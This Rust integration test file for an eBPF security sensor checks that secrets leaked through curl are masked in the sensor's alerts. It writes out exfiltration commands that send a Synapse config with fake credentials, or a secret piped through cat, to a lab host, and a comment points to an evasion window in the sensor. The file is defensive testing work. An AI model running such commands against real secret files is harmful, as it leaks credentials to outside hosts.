//! No secret in any output: a secret's content passed on a command line (`curl -d "$(cat
//! homeserver.yaml)"`), also after the file was replaced, and a credential passed as a flag's
//! value are masked in every line the agent prints, while the alert they are part of is printed.

use std::fs;
use std::path::Path;

use anyhow::Result;
use integration_tests::host_tools::{self, quoted};
use integration_tests::{actor_exe, alert, Lab, Sensor, ALERT_TIMEOUT};
use serde_json::Value;

/// A homeserver config as Synapse writes it, with fake values.
const HOMESERVER_YAML: &str = "\
server_name: \"hs.vigie.test\"
pid_file: /data/synapse.pid
listeners:
  - port: 8008
    type: http
    resources:
      - names: [client, federation]
database:
  name: psycopg2
  args:
    user: synapse_user
    password: \"Pg-7fQ2xLmN9vR4s\"
    host: db.internal
registration_shared_secret: \"Yk3;Qw.Zp8^Ld_Rt4@Hs6-Vb9~Nf2=Xc\"
macaroon_secret_key: \"mK8=Tz2.Wq5;Lp9^Rd3_Ys7@Hb4-Nc6~Fj\"
form_secret: \"fS4~Gh7=Jk1.Lm3;Np5^Qr8_St2@Uv6-Wx\"
signing_key_path: \"/data/hs.vigie.test.signing.key\"
";
/// The shortest run of a secret's content that must never appear.
const WINDOW: usize = 12;
/// How much of a command line the kernel's exec record keeps (`sensor_common::ARGS_MAX`).
const ARGS_CAPTURED: usize = 512;

/// A lab whose sensor also watches a `homeserver.yaml` holding [`HOMESERVER_YAML`].
fn homeserver_lab() -> Result<(Lab, Sensor, std::path::PathBuf)> {
    let lab = Lab::new(actor_exe!())?;
    let config = lab.dir().join("homeserver.yaml");
    fs::write(&config, HOMESERVER_YAML)?;
    let sensor = lab.sensor_with(&[Path::new("--secret"), &config])?;
    Ok((lab, sensor, config))
}

/// Runs `script` in `sh` with `args` after it and returns the alert for curl.
fn curl_alert(lab: &Lab, sensor: &Sensor, script: &str, args: &[&str]) -> Result<Value> {
    let dest = lab.remote().tcp_v4();
    let script = script.replace("URL", &host_tools::url(dest));
    host_tools::run("sh", &[&["-c", script.as_str(), "exfil"], args].concat())?;
    let by_curl = |line: &Value| {
        alert::is_exfiltration_to(dest)(line)
            && host_tools::is_program(alert::process_executable(line), "curl")
    };
    sensor.expect(by_curl, ALERT_TIMEOUT)
}

/// Stops the sensor and returns everything it printed: each stdout line as printed (JSON) and
/// with its strings decoded, and stderr.
///
/// A confirmed alert's `vigie.content.value` names the value by its key (`` `form_secret` of
/// PATH ``): a name, which is a run of the config's text, not its content. It is checked to
/// be such a name and left out of the texts.
fn everything_printed(mut sensor: Sensor) -> Result<Vec<String>> {
    sensor.stop()?;
    let mut texts = vec![sensor.stderr()];
    for mut line in sensor.lines() {
        if let Some(content) = line.pointer_mut("/vigie/content").and_then(Value::as_object_mut) {
            let name = content.remove("value").unwrap_or_default();
            let name = name.as_str().unwrap_or_default();
            assert!(name.contains(" of /"), "not a key's name: {name}");
        }
        texts.push(line.to_string());
        strings(&line, &mut texts);
    }
    Ok(texts)
}

fn strings(value: &Value, into: &mut Vec<String>) {
    match value {
        Value::String(text) => into.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|item| strings(item, into)),
        Value::Object(fields) => fields.values().for_each(|field| strings(field, into)),
        _ => {}
    }
}

/// Fails, naming the place but not the text, if `secret` or any [`WINDOW`]-byte run of it is
/// in `printed`.
fn assert_never_printed(printed: &[String], secret: &str, what: &str) {
    let secret = secret.as_bytes();
    let windows: Vec<(usize, &[u8])> =
        if secret.len() < WINDOW { vec![(0, secret)] } else { secret.windows(WINDOW).enumerate().collect() };
    for (index, text) in printed.iter().enumerate() {
        let text = text.as_bytes();
        let found = windows.iter().find(|(_, window)| text.windows(window.len()).any(|w| w == *window));
        assert!(
            found.is_none(),
            "{what}: bytes {:?} of it printed in output text {index}",
            found.map(|f| f.0)
        );
    }
}

/// Whether `text` is `[masked len=N h=XXXXXX]`, exactly, for a masked span of `len` bytes.
fn is_mask_of(text: Option<&str>, len: usize) -> bool {
    let hash = text.and_then(|t| t.strip_prefix(&format!("[masked len={len} h="))?.strip_suffix(']'));
    hash.is_some_and(|h| h.len() == 6 && h.bytes().all(|c| c.is_ascii_hexdigit()))
}

/// The argument after `flag` in `args`.
fn after<'a>(args: &'a [Value], flag: &str) -> Option<&'a str> {
    args.iter().position(|arg| arg == flag).and_then(|i| args.get(i + 1)?.as_str())
}

/// Sends `config` (holding `content`) with `curl -d "$(cat config)"` and checks the alert: the
/// `-d` value is one mask, the other arguments stay.
fn assert_sent_config_is_masked(lab: &Lab, sensor: &Sensor, config: &Path, content: &str) -> Result<()> {
    // The shell waits on the pipe before cat writes: a reader that drains a marked pipe without
    // waiting, before the page cache backend's channel programs attach, is not followed
    // (docs/EVASION.md); this test is about what the alert prints, not that window.
    let script =
        format!("curl -sS -o /dev/null --max-time 10 URL -d \"$(sleep 0.2; cat {})\"", quoted(config));
    let alert = curl_alert(lab, sensor, &script, &[])?;

    assert_eq!(alert::file_path(&alert), config.to_str(), "the homeserver config leaked: {alert:#}");
    let args = alert.pointer("/process/args").and_then(Value::as_array).expect("process.args");
    assert_eq!(after(args, "--max-time"), Some("10"), "the other arguments stay: {args:?}");
    assert!(args.iter().any(|arg| arg == &host_tools::url(lab.remote().tcp_v4())), "{args:?}");
    // What `$(…)` gave curl (without the trailing newline), as far as the kernel kept it, is
    // masked as one span.
    let before: usize =
        args.iter().take_while(|arg| *arg != "-d").map(|arg| arg.as_str().map_or(0, str::len) + 1).sum();
    let kept = content.trim_end().len().min(ARGS_CAPTURED - before - "-d".len() - 1);
    assert!(is_mask_of(after(args, "-d"), kept), "the -d value is one mask of {kept} bytes: {args:?}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_secret_file_passed_on_curl_s_command_line_is_masked_everywhere() -> Result<()> {
    let (lab, sensor, config) = homeserver_lab()?;
    let started = sensor.expect(alert::is_sensor_started, ALERT_TIMEOUT)?;
    assert_eq!(started.pointer("/vigie/fingerprints/files"), Some(&Value::from(2)), "{started:#}");

    assert_sent_config_is_masked(&lab, &sensor, &config, HOMESERVER_YAML)?;

    let printed = everything_printed(sensor)?;
    assert_never_printed(&printed, HOMESERVER_YAML, "the homeserver config");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_secret_file_replaced_after_start_is_fingerprinted_again() -> Result<()> {
    let (lab, sensor, config) = homeserver_lab()?;
    // A first line no shape rule masks: only the new content's fingerprints can.
    let rotated = format!("public_baseurl: \"https://matrix.rotated.vigie.test/\"\n{HOMESERVER_YAML}");
    let replacement = lab.dir().join("homeserver.yaml.new");
    fs::write(&replacement, &rotated)?;
    fs::rename(&replacement, &config)?;
    // The agent fingerprints changed files right after it says a path leads to a new file.
    sensor.expect(alert::is_watch_updated_for(&config), ALERT_TIMEOUT)?;

    assert_sent_config_is_masked(&lab, &sensor, &config, &rotated)?;

    let printed = everything_printed(sensor)?;
    assert_never_printed(&printed, &rotated, "the replaced homeserver config");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_password_flag_s_value_in_no_watched_file_is_masked_everywhere() -> Result<()> {
    let (lab, sensor, _) = homeserver_lab()?;
    let (password, curl_password) = ("Vx9-unwatched-Pw", "Cu7-unwatched-Pw");
    // The shell's own arguments carry `--password`, curl's carry `-u user:password`.
    let script = format!(
        "cat {} | curl -sS -o /dev/null --max-time 10 -u admin:{curl_password} --data-binary @- URL",
        quoted(lab.secret())
    );
    let alert = curl_alert(&lab, &sensor, &script, &["--password", password])?;

    let shell = alert.pointer("/vigie/ancestry/0/args").and_then(Value::as_array).expect("the shell");
    assert!(is_mask_of(after(shell, "--password"), password.len()), "the shell's args: {shell:?}");
    let args = alert.pointer("/process/args").and_then(Value::as_array).expect("process.args");
    let user = after(args, "-u").and_then(|u| u.strip_prefix("admin:"));
    assert!(is_mask_of(user, curl_password.len()), "the user stays, the password goes: {args:?}");
    let printed = everything_printed(sensor)?;
    assert_never_printed(&printed, password, "the --password value");
    assert_never_printed(&printed, curl_password, "curl's password");
    Ok(())
}
